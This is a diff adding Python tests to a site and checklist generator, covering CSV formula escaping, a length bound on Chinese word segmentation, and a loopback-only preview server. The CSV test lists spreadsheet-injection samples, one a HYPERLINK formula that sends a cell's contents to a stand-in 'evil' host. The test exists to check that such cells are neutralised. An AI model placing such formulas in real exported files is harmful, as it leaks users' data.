@@ -356,3 +356,51 @@ def test_two_builds_of_the_same_sources_are_byte_identical(mini_project, tmp_pat
     assert any(name.endswith(".pdf") for name in first) and "search/search_index.json" in first
     assert sorted(first) == sorted(second)
     assert [name for name in first if first[name] != second[name]] == []
+
+
+# Spreadsheets, search, preview -----------------------------------------------------------------------------------------
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
+    import csv
+    import io
+
+    from generator.checklist import COLUMNS, to_csv
+
+    hostile = ['=HYPERLINK("http://evil/?x="&A2,"ok")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    harmless = ["員工 = 職員", "a-b", "", "'quoted"]
+    rows = [{column: "" for column in COLUMNS} | {"do_zh": text, "do_en": text} for text in hostile + harmless]
+    read = list(csv.DictReader(io.StringIO(to_csv(rows).decode("utf-8-sig"), newline="")))
+    assert [row["do_zh"] for row in read] == ["'" + text for text in hostile] + harmless
+    assert [row["do_en"] for row in read] == [row["do_zh"] for row in read]
+
+
+def test_jieba_is_given_no_run_longer_than_the_bound(monkeypatch):
+    from generator.site import search
+
+    if search.jieba is None:
+        pytest.skip("jieba is not installed")
+    seen = []
+    monkeypatch.setattr(search.jieba, "cut", lambda text, *a, **k: (seen.append(len(text)), [text])[1])
+    monkeypatch.setattr(search.jieba, "cut_for_search", lambda text, *a, **k: (seen.append(len(text)), [text])[1])
+    run = "規" * 50_000
+    assert search.segment(run).replace(search.CUT, "") == run  # the text itself is kept whole
+    search.search_words(run)
+    assert seen and max(seen) <= search.MAX_RUN and sum(seen) == 2 * len(run)
+
+
+def test_the_preview_serves_on_loopback_whatever_mkdocs_yml_says(tmp_path, monkeypatch, caplog):
+    import mkdocs.commands.serve
+
+    from generator.project import Project
+    from generator.site.build import serve
+
+    (tmp_path / "mkdocs.yml").write_text("site_name: T\ndev_addr: 0.0.0.0:8000\n", encoding="utf-8")
+    calls = []
+    monkeypatch.setattr(mkdocs.commands.serve, "serve", lambda **options: calls.append(options["dev_addr"]))
+    with caplog.at_level(logging.WARNING, logger="mkdocs"):
+        serve(Project(tmp_path), None)
+    assert calls == ["127.0.0.1:8000"]
+    assert "dev_addr: 0.0.0.0:8000" in caplog.text
+    serve(Project(tmp_path), "0.0.0.0:9000")  # the administrator's own choice, on the command line
+    assert calls[-1] == "0.0.0.0:9000"
